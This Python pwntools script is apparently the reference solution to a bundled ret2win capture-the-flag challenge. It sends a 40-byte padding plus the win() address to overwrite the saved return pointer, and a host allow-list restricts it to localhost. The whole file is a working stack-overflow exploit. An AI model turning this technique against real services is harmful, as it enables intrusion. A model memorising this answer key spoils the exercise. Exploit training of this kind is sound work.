#!/usr/bin/env python3
"""Reference solution for the bundled ret2win challenge. Local targets only."""
import argparse
import sys

from pwn import ELF, context, cyclic, cyclic_find, p64, process, remote  # noqa: F401

ALLOWED = {"127.0.0.1", "localhost", "::1"}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, default=1337)
    ap.add_argument("--win", type=lambda s: int(s, 0), default=0x401196,
                    help="address of win() from `objdump -d vuln | grep win`")
    ap.add_argument("--offset", type=int, default=40, help="saved RIP offset (32 buf + 8 rbp)")
    a = ap.parse_args()
    if a.host not in ALLOWED:
        sys.exit("This coach only targets the local challenge container.")

    context.arch = "amd64"
    io = remote(a.host, a.port)
    io.recvuntil(b"name?")
    ret_gadget = a.win + 0x4  # skip push rbp to keep stack 16-byte aligned
    payload = b"A" * a.offset + p64(ret_gadget)
    io.send(payload)
    print(io.recvall(timeout=2).decode(errors="replace"))


if __name__ == "__main__":
    main()
